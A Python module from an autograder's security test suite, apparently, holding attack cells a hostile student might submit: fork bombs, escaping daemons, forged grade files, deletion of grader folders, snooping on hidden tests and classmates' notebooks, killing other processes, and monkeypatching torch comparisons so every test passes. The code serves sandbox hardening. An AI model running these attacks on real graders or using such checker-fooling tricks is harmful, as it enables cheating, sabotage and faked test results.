"""The attack cells: what a hostile student types into a notebook.

Each function returns the source of one code cell. Paths, ports and markers are baked into the
text, as a student who knows the TA's folder layout would write them. Probe cells finish with
``raise RuntimeError("ADVPROBE:<name>:<json>")`` so that results.json records what worked.

Nothing here is destructive on the host unless the sandbox fails: every write or delete aimed at
the project is refused by the cell itself when it finds it still runs as root (a broken drop of
privileges must show up as a failed assertion, not as a deleted working tree).
"""

from __future__ import annotations

from string import Template
from textwrap import dedent

from attacks import PROBE_PREFIX


def _cell(template: str, **values: object) -> str:
    return Template(dedent(template).strip() + "\n").substitute(PROBE=repr(PROBE_PREFIX), **{k: repr(v) for k, v in values.items()})


# Shared by every probe cell: try something, record "ok..." or the exception's type name.
_PROBE_HEAD = """
import json as _json
_report = {}
def _try(name, action):
    try:
        result = action()
        _report[name] = "ok" if result is None else "ok:" + str(result)[:60]
    except BaseException as error:  # noqa
        _report[name] = type(error).__name__
"""


def _probe(name: str, body: str, **values: object) -> str:
    tail = f'\nraise RuntimeError($PROBE + "{name}:" + _json.dumps(_report, separators=(",", ":")))\n'
    return _cell(_PROBE_HEAD + dedent(body) + tail, **values)


# -- hangs, exits ------------------------------------------------------------------------------
def loop_forever() -> str:
    return "while True:\n    pass\n"


def hanging_scaled_attention(honest_source: str) -> str:
    """The solution's scaled_attention, except that it never returns on the chapter's section 2
    example (one float32 query, three keys): exactly one hidden test hangs."""
    return honest_source + dedent(
        """

        _honest_scaled_attention = scaled_attention


        def scaled_attention(query, key, value, allowed=None):
            if query.dim() == 2 and query.shape[0] == 1 and key.shape[-2] == 3 and query.dtype == torch.float32:
                while True:
                    pass
            return _honest_scaled_attention(query, key, value, allowed)
        """
    )


def hard_exit() -> str:
    return "import os\nos._exit(0)\n"


def sys_exit() -> str:
    return "import sys\nsys.exit(1)\n"


def keyboard_interrupt() -> str:
    return "raise KeyboardInterrupt\n"


def exit_in_every_call() -> str:
    return dedent(
        """
        import os


        def scaled_attention(query, key, value, allowed=None):
            os._exit(0)
        """
    ).lstrip()


def always_value_error() -> str:
    """A scaled_attention that does nothing but raise the chapter's ValueError."""
    return "def scaled_attention(query, key, value, allowed=None):\n    raise ValueError('每个查询至少需要一个允许访问的位置')\n"


# -- memory -------------------------------------------------------------------------------------
def huge_tensor() -> str:
    return "import torch\nbig = torch.empty(50 * 2**30)\n"


def list_growth() -> str:
    return "hog = []\nwhile True:\n    hog.append('x' * 10**7)\n"


def memory_in_children(children: int, megabytes: int) -> str:
    """Fork children that each touch ``megabytes`` of memory and measure the total resident size
    of the sandbox's processes: is the memory limit per process or per submission?"""
    return _probe(
        "fork_memory",
        """
        import os, select, signal, time
        _pids, (_r, _w) = [], os.pipe()
        for _ in range($children):
            try:
                _pid = os.fork()
            except OSError as error:
                _report.setdefault("fork_errors", []).append(type(error).__name__)
                break
            if _pid == 0:
                try:
                    _block = b"\\x01" * ($megabytes * 2**20)
                    os.write(_w, b"k")
                    time.sleep(30)
                finally:
                    os._exit(0)
            _pids.append(_pid)
        _ready, _deadline = 0, time.monotonic() + 2.2
        while _ready < len(_pids) and time.monotonic() < _deadline:
            if select.select([_r], [], [], 0.1)[0]:
                _ready += len(os.read(_r, 64))
        def _private_mb(pid):
            # Pages only this process maps: what it allocated itself. (RSS would also count, once
            # per process, the libraries every sandbox shares with the zygote.)
            try:
                with open(f"/proc/{pid}/smaps_rollup") as rollup:
                    return sum(int(line.split()[1]) for line in rollup if line.startswith(("Private_Clean:", "Private_Dirty:"))) // 1024
            except OSError:  # the child was killed for going over the limit
                return 0
        _report["children_ready"] = _ready
        _report["children_private_mb"] = sum(_private_mb(pid) for pid in _pids)
        _report["total_private_mb"] = _report["children_private_mb"] + _private_mb(os.getpid())
        for _pid in _pids:
            os.kill(_pid, signal.SIGKILL)
            os.waitpid(_pid, 0)
        """,
        children=children,
        megabytes=megabytes,
    )


def fork_bomb(tries: int) -> str:
    """Fork up to ``tries`` children that wait, and count them: how many processes may one
    submission have? The children go when the probe ends."""
    return _probe(
        "fork_bomb",
        """
        import os
        _held, (_r, _w) = [], os.pipe()
        _report["error"] = ""
        for _ in range($tries):
            try:
                _pid = os.fork()
            except OSError as error:
                _report["error"] = type(error).__name__
                break
            if _pid == 0:
                os.close(_w)
                os.read(_r, 1)  # until the parent closes its end
                os._exit(0)
            _held.append(_pid)
        _report["children"] = len(_held)
        os.close(_w)
        for _pid in _held:
            os.waitpid(_pid, 0)
        """,
        tries=tries,
    )


# -- processes that try to outlive grading --------------------------------------------------------
def forked_daemon(marker: str) -> str:
    """A double-forked, setsid'd Python child that renames itself and writes a file forever."""
    return dedent(
        f"""
        import ctypes, os, time
        _pid = os.fork()
        if _pid == 0:
            try:
                os.setsid()
                if os.fork() == 0:
                    ctypes.CDLL(None).prctl(15, {marker!r}.encode(), 0, 0, 0)  # PR_SET_NAME
                    while True:
                        with open("/tmp/" + {marker!r}, "a") as _f:
                            _f.write("alive\\n")
                        time.sleep(0.2)
            finally:
                os._exit(0)
        os.waitpid(_pid, 0)
        """
    ).lstrip()


def spawned_daemons(marker: str, sleep_seconds: str) -> str:
    """``sleep`` and a shell loop in new sessions, the shell writing a marker file forever."""
    return dedent(
        f"""
        import subprocess
        _sleeper = subprocess.Popen(["sleep", {sleep_seconds!r}], start_new_session=True)
        _looper = subprocess.Popen(
            ["/bin/sh", "-c", "while :; do echo alive >> /tmp/$0; sleep 0.2; done", {marker!r}],
            start_new_session=True,
        )
        """
    ).lstrip()


# -- forging results, deleting the grader's files -------------------------------------------------
def fake_results(out: str, submitted: str, me: str, victim: str, assignment: str) -> str:
    return _probe(
        "fake_results",
        """
        import os
        _fake = _json.dumps({"score": 100, "max_score": 100, "tests": [], "student_id": $me})
        _csv = "student_id,assignment,score,max_score\\n" + $me + "," + $assignment + ",100,100\\n"
        def _write(path, text):
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as handle:
                handle.write(text)
        _targets = {
            "cwd_results": os.path.join(os.getcwd(), "results.json"),
            "cwd_grades": os.path.join(os.getcwd(), "grades.csv"),
            "tmp_results": "/tmp/results.json",
            "tmp_grades": "/tmp/grades.csv",
            "out_grades": $out + "/grades.csv",
            "out_report": $out + "/report.html",
            "out_own": $out + "/" + $me + "/" + $assignment + "/results.json",
            "out_victim": $out + "/" + $victim + "/" + $assignment + "/results.json",
            "submitted_own_results": $submitted + "/" + $me + "/" + $assignment + "/results.json",
            "submitted_own_notebook": $submitted + "/" + $me + "/" + $assignment + "/attention.ipynb",
            "submitted_victim_notebook": $submitted + "/" + $victim + "/" + $assignment + "/attention.ipynb",
        }
        for _name, _path in _targets.items():
            _try(_name, lambda: _write(_path, _csv if _path.endswith(".csv") else _fake))
        """,
        out=out,
        submitted=submitted,
        me=me,
        victim=victim,
        assignment=assignment,
    )


def delete_everything(out: str, submitted: str, root: str, root_owner: int) -> str:
    return _probe(
        "delete",
        """
        import os, shutil
        _report["euid"] = os.geteuid()
        _safe = os.geteuid() not in (0, $root_owner)  # never run a real rmtree as the tree's owner
        for _name, _path in (("out", $out), ("submitted", $submitted), ("autograder", $root + "/autograder"),
                             ("src", $root + "/src"), ("project", $root)):
            if _safe:
                _try(_name, lambda: shutil.rmtree(_path))
            else:
                _report[_name] = "refused: running as the owner"
        """,
        out=out,
        submitted=submitted,
        root=root,
        root_owner=root_owner,
    )


def leave_traces(marker: str, shm_key: int) -> str:
    """Files in the host's other world-writable folders and a SysV shared-memory segment: do
    they outlive the sandbox?"""
    return _probe(
        "traces",
        """
        import ctypes, os
        def _touch(path):
            with open(path, "w") as handle:
                handle.write("x" * 4096)
        for _folder in ("/var/tmp", "/dev/shm", "/run/lock"):
            _try(_folder, lambda: _touch(_folder + "/" + $marker))
        _libc = ctypes.CDLL(None, use_errno=True)
        _libc.shmat.restype = ctypes.c_void_p
        def _shm():
            ident = _libc.shmget($shm_key, 8 * 2**20, 0o1600)  # IPC_CREAT | 0600
            if ident < 0:
                raise OSError(ctypes.get_errno(), "shmget")
            address = _libc.shmat(ident, None, 0)
            ctypes.memset(address, 1, 8 * 2**20)
            return ident
        _try("sysv_shm", _shm)
        """,
        marker=marker,
        shm_key=shm_key,
    )


# -- reading the hidden tests, the reference, other students' work --------------------------------
def snoop(root: str, submitted: str, out: str, victim: str, assignment: str, secret_name: str) -> str:
    return _probe(
        "snoop",
        """
        import gc, importlib, os, sys, time, types
        def _read(path):
            with open(path, "rb") as handle:
                return len(handle.read())
        _try("open_reference", lambda: _read($root + "/autograder/ch19_attention/reference.py"))
        _try("open_catalogue", lambda: _read($root + "/autograder/ch19_attention/catalogue.py"))
        _try("open_solution", lambda: _read($root + "/solutions/" + $assignment + "/attention.ipynb"))
        _try("open_engine", lambda: _read($root + "/src/attnkit/engine.py"))
        _try("list_autograder", lambda: sorted(os.listdir($root + "/autograder")))
        _try("read_victim", lambda: _read($submitted + "/" + $victim + "/" + $assignment + "/attention.ipynb"))
        _try("list_submitted", lambda: sorted(os.listdir($submitted)))
        _try("list_out", lambda: sorted(os.listdir($out)))
        for _module in ("reference", "catalogue", "checks", "ch19_attention", "ch19_attention.reference",
                        "ch19_attention.catalogue", "attnkit", "attnkit.assignment.checks", "attnkit.engine.fan_out", "attnkit.grading.plugin"):
            _try("import_" + _module, lambda: importlib.import_module(_module) and None)
        _hidden = {"reference", "catalogue", "checks", "ch19_attention", "ch19_attention.reference", "ch19_attention.catalogue"}
        _found = set()
        for _object in gc.get_objects():
            if isinstance(_object, types.FunctionType):
                _file = _object.__code__.co_filename
                if "autograder" in _file or "test_ch19" in _file or _object.__module__ in _hidden:
                    _found.add(_object.__module__ + "." + _object.__qualname__)
            elif isinstance(_object, types.ModuleType):
                if _object.__name__ in _hidden or "autograder" in str(getattr(_object, "__file__", "")):
                    _found.add(_object.__name__)
        _report["gc_hidden"] = sorted(_found)[:5]
        _report["sys_modules_hidden"] = sorted(n for n in sys.modules if n in _hidden or n.startswith(("test_ch19", "ch19_attention")))
        _walked, _hits, _deadline = 0, [], time.monotonic() + 1.2
        for _top in ($root, "/work/shared", "/root", "/home", "/srv", "/opt", "/mnt", "/var/tmp", "/dev/shm", "/tmp"):
            for _dir, _subdirs, _files in os.walk(_top):
                _subdirs[:] = [d for d in _subdirs if d not in (".venv", "site-packages", "node_modules", ".git")]
                _walked += 1
                for _name in _files:
                    if _name == "catalogue.py" or _name.startswith("test_ch19") or _name == "reference.py":
                        try:
                            _read(os.path.join(_dir, _name))
                            _hits.append(os.path.join(_dir, _name))
                        except OSError:
                            pass
                if time.monotonic() > _deadline:
                    break
        _report["walked_dirs"] = _walked
        _report["readable_hidden_files"] = _hits[:5]
        import glob
        _report["glob_catalogue"] = glob.glob($root + "/**/catalogue.py", recursive=True)[:5]
        _report["secret"] = os.environ.get($secret_name, "")
        _report["euid"] = os.geteuid()
        """,
        root=root,
        submitted=submitted,
        out=out,
        victim=victim,
        assignment=assignment,
        secret_name=secret_name,
    )


# -- network --------------------------------------------------------------------------------------
def network(host_port: int, bind_port: int, udp_port: int) -> str:
    return _probe(
        "network",
        """
        import os, socket, time
        def _connect(address):
            with socket.create_connection(address, timeout=1) as connection:
                connection.sendall(b"ADVPROBE hello")
        _try("connect_host_loopback", lambda: _connect(("127.0.0.1", $host_port)))
        _try("connect_public_ip", lambda: _connect(("1.1.1.1", 53)))
        _try("dns", lambda: socket.getaddrinfo("example.com", 80) and None)
        def _udp():
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
                udp.sendto(b"ADVPROBE", ("127.0.0.1", $udp_port))
                udp.sendto(b"ADVPROBE", ("1.1.1.1", 53))
        _try("udp_send", _udp)
        _report["interfaces"] = sorted(os.listdir("/sys/class/net")) if os.path.isdir("/sys/class/net") else []
        def _listen():
            server = socket.socket()
            server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            server.bind(("0.0.0.0", $bind_port))
            server.listen()
            server.settimeout(1.5)
            try:
                connection, peer = server.accept()
                connection.close()
                return "accepted " + str(peer)
            except socket.timeout:
                return "nobody came"
            finally:
                server.close()
        _try("listen", _listen)
        """,
        host_port=host_port,
        bind_port=bind_port,
        udp_port=udp_port,
    )


# -- output floods, markup ------------------------------------------------------------------------
def flood_print() -> str:
    return "print('x' * 64 * 2**20)\n"


def flood_dunder_stdout() -> str:
    return "import sys\nsys.__stdout__.write('y' * 64 * 2**20)\nsys.__stdout__.flush()\n"


def flood_fd(fd: int) -> str:
    return f"import os\nos.write({fd}, b'z' * 64 * 2**20)\n"


def flood_stderr() -> str:
    return "import sys\nsys.stderr.write('e' * 64 * 2**20)\n"


def markup_error(marker: str) -> str:
    return f"raise RuntimeError('<script>{marker}</script><img src=x onerror=alert(1)>')\n"


def flooding_scaled_attention(marker: str) -> str:
    return dedent(
        f"""
        def scaled_attention(query, key, value, allowed=None):
            print("p" * 2**26)
            raise RuntimeError("<script>{marker}</script>" + "v" * 100000)
        """
    ).lstrip()


# -- fooling the checker ----------------------------------------------------------------------------
def monkeypatch_checker() -> str:
    return dedent(
        """
        import builtins, math
        import numpy
        import torch
        import torch.testing
        _yes = lambda *args, **kwargs: True
        torch.allclose = _yes
        torch.equal = _yes
        torch.isclose = lambda a, b, *args, **kwargs: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
        torch.Tensor.__eq__ = _yes
        torch.Tensor.__ne__ = lambda *args, **kwargs: False
        torch.Tensor.allclose = _yes
        torch.Tensor.equal = _yes
        torch.testing.assert_close = lambda *args, **kwargs: None
        numpy.allclose = _yes
        numpy.testing.assert_allclose = lambda *args, **kwargs: None
        math.isclose = _yes
        builtins.isinstance = _yes
        """
    ).lstrip()


def forged_usage() -> str:
    """Work (~0.3 s of CPU, 200 MB touched), then have ``resource.getrusage`` say none was done."""
    return dedent(
        """
        import resource, time
        _until = time.process_time() + 0.3
        while time.process_time() < _until:
            pass
        _ballast = bytearray(200 * 1024 * 1024)
        for _at in range(0, len(_ballast), 4096):
            _ballast[_at] = 1
        del _ballast
        class _Nothing:
            ru_utime = ru_stime = 0.0
            ru_maxrss = 1
        resource.getrusage = lambda *args, **kwargs: _Nothing()
        """
    ).lstrip()


LIAR_PRELUDE = dedent(
    """
    import torch


    class LyingTensor(torch.Tensor):
        \"\"\"Equal to everything, true, close to anything: the classic same-process exploit.\"\"\"

        def __eq__(self, other):
            return True

        def __ne__(self, other):
            return False

        def __bool__(self):
            return True

        def allclose(self, *args, **kwargs):
            return True

        def equal(self, *args, **kwargs):
            return True

        @classmethod
        def __torch_function__(cls, func, types, args=(), kwargs=None):
            if func in (torch.allclose, torch.equal, torch.Tensor.allclose, torch.Tensor.equal):
                return True
            if func in (torch.isclose, torch.eq, torch.Tensor.eq, torch.Tensor.__eq__):
                return torch.ones(torch.broadcast_shapes(*(torch.as_tensor(a).shape for a in args[:2])), dtype=torch.bool)
            return super().__torch_function__(func, types, args, kwargs or {})


    class Liar:
        \"\"\"An answer that equals whatever it is compared with.\"\"\"

        def __init__(self, value):
            self.value = value

        def __eq__(self, other):
            return True

        def __ne__(self, other):
            return False

        def __bool__(self):
            return True

        def __hash__(self):
            return 0

        def __len__(self):
            return 2


    WRAP = lambda tensor: tensor.as_subclass(LyingTensor)
    ANSWER = Liar
    """
).lstrip()

HONEST_GARBAGE_PRELUDE = "WRAP = lambda tensor: tensor\nANSWER = lambda answer: answer\n"

# Wrong but well-shaped answers: zeros everywhere, wrong shape-trace and self-test answers.
GARBAGE = {
    "scaled_attention": dedent(
        """
        def scaled_attention(query, key, value, allowed=None):
            lead = torch.broadcast_shapes(query.shape[:-2], key.shape[:-2], value.shape[:-2])
            weights = torch.zeros(*lead, query.shape[-2], key.shape[-2], dtype=query.dtype)
            output = torch.zeros(*lead, query.shape[-2], value.shape[-1], dtype=query.dtype)
            return WRAP(output), WRAP(weights)
        """
    ).lstrip(),
    "causal_allowed": "def causal_allowed(size):\n    return WRAP(torch.zeros(size, size, dtype=torch.bool))\n",
    "padding_allowed": "def padding_allowed(lengths, size):\n    return WRAP(torch.zeros(len(lengths), 1, 1, size, dtype=torch.bool))\n",
    "split_heads": dedent(
        """
        def split_heads(x, num_heads):
            return WRAP(torch.zeros(*x.shape[:-2], num_heads, x.shape[-2], x.shape[-1] // num_heads, dtype=x.dtype))
        """
    ).lstrip(),
    "merge_heads": dedent(
        """
        def merge_heads(x):
            return WRAP(torch.zeros(*x.shape[:-3], x.shape[-2], x.shape[-3] * x.shape[-1], dtype=x.dtype))
        """
    ).lstrip(),
    "multi_head_attention": dedent(
        """
        def multi_head_attention(x, w_q, w_k, w_v, w_o, num_heads, allowed=None, context=None):
            source = x if context is None else context
            output = torch.zeros(x.shape[0], x.shape[1], w_o.shape[-1], dtype=x.dtype)
            weights = torch.zeros(x.shape[0], num_heads, x.shape[1], source.shape[1], dtype=x.dtype)
            return WRAP(output), WRAP(weights)
        """
    ).lstrip(),
    "shape_trace": "".join(
        f"{name} = ANSWER((1,))\n" for name in ("trace_projected", "trace_split", "trace_weights", "trace_mixed", "trace_merged", "trace_output")
    ),
    "self_test": dedent(
        """
        answer_output_shape = ANSWER((1,))
        answer_weights_shape = ANSWER((1,))
        answer_causal_sees_current = ANSWER(False)
        answer_heads_split_sequence = ANSWER(True)
        answer_weights_factor = ANSWER(0)
        answer_output_factor = ANSWER(0)
        answer_earlier_outputs_change = ANSWER(True)
        answer_growth_factor = ANSWER(0)
        """
    ).lstrip(),
}


# -- talking to the grader directly -----------------------------------------------------------------
_FIND_CHANNEL = """
import os, stat, struct


def _is_socket(fd):
    try:
        return stat.S_ISSOCK(os.fstat(fd).st_mode)
    except OSError:
        return False


_channel = next(fd for fd in range(3, 256) if _is_socket(fd))
"""


def forged_frame() -> str:
    """Write a malformed frame (a 1-byte body) on the protocol socket in place of the cell's reply."""
    return dedent(_FIND_CHANNEL).lstrip() + 'os.write(_channel, struct.pack("!II", 1, 0) + b"x")\n'


def slow_drip() -> str:
    """Announce a 60 MB reply on the protocol socket, then send it one byte a second."""
    return dedent(_FIND_CHANNEL).lstrip() + dedent(
        """
        import time
        os.write(_channel, struct.pack("!II", 60 * 2**20, 0))
        while True:
            os.write(_channel, b" ")
            time.sleep(1)
        """
    )


# -- a sandbox under its grader's own uid (issue 37) ------------------------------------------------
def metadata_changes(targets: list[str], trees: list[str], own_notebook: str, seconds: float) -> str:
    """Change the metadata of every file a TA grading without root owns, as its own uid may: each
    path of ``targets`` (a classmate's notebook, the gradebook) and everything under ``trees``
    (SUBMITTED, OUT; walked again for ``seconds``, so that outputs written meanwhile are hit too):
    an extended attribute set and removed, the times planted (the classmate's to 2100, the
    attacker's own notebook to 2001: lateness falls back on a notebook's mtime), the length cut
    (truncate by path: Landlock below ABI 3 does not mediate it), the owner set, then mode 000.
    Reports, per operation, how many calls succeeded and the errors of the rest. Refuses to run
    as root (a broken drop of privileges must be a failed assertion, not a wrecked host)."""
    return _probe(
        "metadata",
        """
        import os, time
        _counts = {}
        def _count(operation, action, path):
            try:
                action(path)
                outcome = "ok"
            except OSError as error:
                outcome = type(error).__name__
            _counts.setdefault(operation, {}).setdefault(outcome, 0)
            _counts[operation][outcome] += 1
        def _paths():
            found = list($targets)
            for tree in $trees:
                for folder, subfolders, files in os.walk(tree, topdown=False):
                    found += [os.path.join(folder, name) for name in files + subfolders]
                found.append(tree)
            return found
        _count("utime_own_2001", lambda p: os.utime(p, (978307200, 978307200)), $own_notebook)
        if os.geteuid() != 0:
            _deadline = time.monotonic() + $seconds
            while True:
                for _path in _paths():
                    _count("setxattr", lambda p: os.setxattr(p, "user.attnkit37", b"x", follow_symlinks=False), _path)
                    _count("removexattr", lambda p: os.removexattr(p, "user.attnkit37", follow_symlinks=False), _path)
                    _count("utime_2100", lambda p: os.utime(p, (4102444800, 4102444800), follow_symlinks=False), _path)
                    if _path.endswith(".ipynb"):
                        _count("truncate", lambda p: os.truncate(p, 0), _path)
                    _count("chown", lambda p: os.chown(p, os.getuid(), os.getgid(), follow_symlinks=False), _path)
                    _count("chmod_000", lambda p: os.chmod(p, 0), _path)
                if time.monotonic() > _deadline:
                    break
                time.sleep(0.2)
        else:
            _report["refused"] = "root"
        _report.update({operation: ",".join(f"{k}={v}" for k, v in sorted(outcomes.items())) for operation, outcomes in _counts.items()})
        """,
        targets=targets,
        trees=trees,
        own_notebook=own_notebook,
        seconds=seconds,
    )


def reach_other_processes(above_own: int) -> str:
    """Reach every other process a uid may: for each pid from 2 to ours + ``above_own`` (the
    grader's CLI, workers, seed and zygotes started before us; the classmates' sandboxes around
    us), prlimit RLIMIT_CPU to one second (the kernel then kills it: no signal is sent, so no
    signal scope applies), the lowest priority, CPU 0 only, and SIGKILL; then the lowest priority
    for the whole uid and kill(-1, SIGKILL). Reports, per operation, how many calls on another
    process succeeded and the errors of the rest."""
    return _probe(
        "processes",
        """
        import os, resource, signal
        _me = os.getpid()
        _counts = {}
        def _count(operation, action):
            try:
                action()
                outcome = "ok"
            except OSError as error:
                outcome = type(error).__name__
            _counts.setdefault(operation, {}).setdefault(outcome, 0)
            _counts[operation][outcome] += 1
        if os.geteuid() != 0:
            _others = [pid for pid in range(2, _me + $above_own) if pid != _me]
            for _pid in _others:
                _count("prlimit_cpu", lambda: resource.prlimit(_pid, resource.RLIMIT_CPU, (1, 1)))
                _count("setpriority", lambda: os.setpriority(os.PRIO_PROCESS, _pid, 19))
                _count("sched_setaffinity", lambda: os.sched_setaffinity(_pid, {0}))
            _count("setpriority_user", lambda: os.setpriority(os.PRIO_USER, 0, 19))
            for _pid in _others:
                _count("kill", lambda: os.kill(_pid, signal.SIGKILL))
            for _ in range(3):
                _count("kill_minus_1", lambda: os.kill(-1, signal.SIGKILL))
        else:
            _report["refused"] = "root"
        _report.update({operation: ",".join(f"{k}={v}" for k, v in sorted(outcomes.items())) for operation, outcomes in _counts.items()})
        """,
        above_own=above_own,
    )
